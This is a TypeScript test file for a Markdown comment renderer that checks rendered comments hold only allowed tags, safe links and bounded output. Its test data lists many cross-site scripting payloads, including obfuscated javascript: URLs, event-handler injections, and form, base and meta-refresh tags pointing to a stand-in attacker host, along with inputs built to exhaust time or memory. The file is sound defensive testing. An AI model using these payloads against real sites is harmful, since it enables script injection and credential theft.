import { renderComment } from '@byline/markdown/comment'
import { elementsIn, textIn } from '@byline/test-files/test-html'
import { afterAll, describe, expect, it } from 'vitest'
import { startRenderer } from './renderer.ts'

const html = async (text: string) => (await renderComment(text, { highlightMs: 60_000 })).html

/** Every element that the HTML of a comment may contain. */
const tags = 'a blockquote br button code del div em hr li ol p pre s span strong table tbody td th thead tr ul'
const attributes = 'ariaLabel className colSpan dataCopy href rel role rowSpan start tabIndex title type value'

/** Fails when a comment affects the page around it. */
function expectHarmless(markup: string) {
  const elements = elementsIn(markup)
  for (const { tagName, properties } of elements) {
    expect(tags.split(' ')).toContain(tagName)
    for (const name of Object.keys(properties)) expect(attributes.split(' ')).toContain(name)
    if (tagName !== 'a') continue
    expect(properties.rel).toEqual(['ugc', 'nofollow', 'noopener'])
    expect(String(properties.href)).toMatch(/^((https?|ircs?|mailto|xmpp):|[^:]*$|[^:]*[/?#])/)
  }
  return elements
}

describe('a comment', () => {
  it('is Markdown: emphasis, links, lists, quotations, code, tables', async () => {
    const markup = await html('*a* **b** ~~c~~ `d`\ne\n\n> f\n\n- g\n1. h\n\n|i|\n|:-:|\n|j|\n\n***')
    const found = expectHarmless(markup).map(({ tagName }) => tagName)
    expect(found.join(' ')).toBe('p em strong s code br blockquote p ul li ol li div table thead tr th tbody tr td hr')
    expect(markup).toContain('align-center')
    expect(markup).not.toContain('style')
  })

  it('has its code highlighted by classes', async () => {
    const markup = await html('```js\nconst a = "<script>" // b\n```')
    const kinds = expectHarmless(markup).map(({ properties }) => String(properties.className))
    expect(kinds).toEqual(expect.arrayContaining(['code', 'tk-keyword', 'tk-comment']))
    expect(textIn(markup)).toContain('const a = "<script>" // b')
  })

  it('has `rel="ugc nofollow noopener"` on every link, however it is written', async () => {
    const ways = [
      '[a](https://a.example)',
      '[a](https://a.example "title")',
      '[a][b]\n\n[b]: https://a.example',
      '<https://a.example>',
      'https://a.example',
      'www.a.example',
      'a@b.example',
      '<a@b.example>',
      '![a](https://a.example/a.png)',
      '[a](/relative)',
      '[a](//other.example)',
      '|[a](https://a.example)|\n|-|',
    ]
    for (const way of ways) {
      const links = expectHarmless(await html(way)).filter(({ tagName }) => tagName === 'a')
      expect([way, links.length]).toEqual([way, 1])
    }
  })

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java&#x73;cript:alert(1)',
    '&#106;avascript:alert(1)',
    'javascript&colon;alert(1)',
    'java&Tab;script:alert(1)',
    'java&NewLine;script:alert(1)',
    'java\\script:alert(1)',
    '<java\tscript:alert(1)>',
    '< javascript:alert(1)>',
    '<\u0001javascript:alert(1)>',
    '&#1;javascript:alert(1)',
    'javascript%3Aalert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'DATA:image/svg+xml,<svg/onload=alert(1)>',
    'vbscript:msgbox(1)',
    'view-source:javascript:alert(1)',
    'file:///etc/passwd',
    'blob:https://blog.example/1',
    'feed:javascript:alert(1)',
    'https://a.example" onclick="alert(1)',
    "https://a.example' onclick='alert(1)",
  ])('makes no address executable: %s', async (address) => {
    const ways = [
      `[a](${address})`,
      `[a](<${address}>)`,
      `![a](${address})`,
      `[a]: ${address}\n\n[a]`,
      `<${address}>`,
      address,
      `www.a.example/${address}`,
    ]
    for (const way of ways) {
      for (const { tagName, properties } of expectHarmless(await html(way))) {
        if (tagName !== 'a') continue
        // Resolves the address like a browser on a page of the site.
        const read = URL.parse(String(properties.href), 'https://blog.example/article/a')
        expect([way, read?.protocol ?? 'https:']).toEqual([way, expect.stringMatching(/^(https?|mailto):$/)])
      }
    }
  })

  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg><style><img src=x onerror=alert(1)>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)" style="position:fixed">a</a>',
    '<h1 id="comments">Title</h1>',
    '<style>*{display:none}</style>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<form action=//evil.example><input name=token><button>Send</button></form>',
    '<base href="//evil.example">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<link rel="stylesheet" href="//evil.example">',
    '<details open ontoggle=alert(1)>',
    '<!-- --><script>alert(1)</script>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?php echo 1 ?>',
    '</article></main></body></html>',
    '</p></li></ol><script>alert(1)</script>',
    '<p id=a class=b>c</p>',
    '<textarea><script>alert(1)</script></textarea>',
    '<plaintext>',
    '<template><script>alert(1)</script></template>',
  ])('shows the source of raw HTML: %s', async (text) => {
    for (const around of [text, `a ${text} b`, `- ${text}`, `> ${text}`, `**${text}**`]) {
      expectHarmless(await html(around))
    }
    expect(textIn(await html(text))).toContain(text.slice(0, 5))
  })

  it.each([
    ['entities stay text', '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;', '<script>'],
    ['code stays text', '`<script>alert(1)</script>`', '<script>'],
    ['a fence names no class', '```x" onclick="alert(1)\na\n```', 'a'],
    ['a fence names no element', '```<script>\na\n```', 'a'],
    ['a fence names no style', '```js {style="a"} id=b\na\n```', 'a'],
    ['a title closes nothing', '[a](b "c\\" onclick=\\"alert(1)")', 'a'],
    ['a label closes nothing', '["><script>alert(1)</script>](b)', '<script>'],
    ['a picture’s text closes nothing', '!["><script>alert(1)</script>](b)', '<script>'],
    ['a picture is a link behind a sign', '![a](https://a.example/a.png)', '!a'],
    ['a heading stays text', '# a', '# a'],
    ['six signs stay text', '###### a', '###### a'],
    ['an underlined heading stays text', 'a\n===', '==='],
    ['a heading in a list stays text', '- # a', '# a'],
    ['a heading in a quotation stays text', '> ## a', '## a'],
    ['a footnote stays text', 'a[^1]\n\n[^1]: b c', '[^1]'],
    ['a task list is a list', '- [x] a', '[x] a'],
    ['right-to-left overrides stay in their paragraph', 'a \u202eb\u2066\n\nc', 'a \u202eb\u2066'],
    ['a tower of accents is cut', `a${'\u0301'.repeat(500)}b`, `a${'\u0301'.repeat(8)}b`],
    ['a tower of entities is cut', `a${'&#769;'.repeat(500)}b`, `a${'\u0301'.repeat(8)}b`],
  ])('stays inside its element: %s', async (_name, text, shown) => {
    const markup = await html(text)
    expectHarmless(markup)
    expect(textIn(markup)).toContain(shown)
  })
})

describe('5,000 characters that are known to need much time or memory', () => {
  const renderer = startRenderer()
  afterAll(() => renderer.close())
  const fill = (part: string): string => part.repeat(Math.floor(5_000 / part.length))
  const rows = (cells: number) => `|${'a|'.repeat(cells)}\n|${'-|'.repeat(cells)}\n`

  it.each([
    ['one definition used often', `[a]: /${'b'.repeat(2_500)}\n\n${'[a]'.repeat(800)}`],
    ['one long title used often', `[a]: b "${'"'.repeat(2_500)}"\n\n${'[a]'.repeat(800)}`],
    ['one address used in a table', `[a]: /${'b'.repeat(2_500)}\n\n|a|\n|-|\n${'|[a]\n'.repeat(490)}`],
    ['a definition of families', `[a]: /${'👨‍👩‍👧‍👦'.repeat(2_500)}\n\n${'[a]'.repeat(800)}`],
    ['a table of missing cells', rows(600) + '|\n'.repeat(1_200)],
    ['nested quotations', fill('>')],
    ['nested lists', fill('- ')],
    ['nested emphasis', fill('*a **a ')],
    ['open brackets', fill('[')],
    ['nested links', `${'['.repeat(1_600)}a${'](b)'.repeat(800)}`],
    ['open links', fill('[a](')],
    ['backticks of growing length', Array.from({ length: 98 }, (_, n) => `e${'`'.repeat(n)}`).join('')],
    ['blocks of code', fill('```js\na\n```\n')],
    ['brackets in code', `\`\`\`js\n${fill('(')}\n\`\`\``],
    [
      'code in many languages',
      ['js', 'cpp', 'php', 'rust', 'html', 'tsx'].map((l) => `\`\`\`${l}\n${'<a{"`'.repeat(150)}\n\`\`\`\n`).join(''),
    ],
    ['email addresses', fill('a@b.c ')],
    ['an endless address', `https://a.b/${fill('(')}`],
    ['www.', fill('www.')],
    ['entities', fill('&#x')],
    ['families', '👨‍👩‍👧‍👦'.repeat(5_000)],
    ['one letter with all accents', `a${'\u0301'.repeat(99_999)}`],
    ['NULs', fill('\0')],
    ['empty lines', `a${fill('\n')}b`],
  ])('are rendered, to HTML of bounded length: %s', async (_name, text) => {
    const answer = await renderer.render(text, {}, 10_000, { comment: true })
    expect(answer.html).not.toMatch(/<(script|img|h[1-6]|style)\b| (id|style)=/i)
    expect(answer.html.length).toBeLessThan(200_000 + 10 * text.length)
  })

  it('do not break the renderer', async () => {
    const { html } = await renderer.render('*alive*', {}, 60_000, { comment: true })
    expect(html).toBe('<p><em>alive</em></p>\n')
  })
})
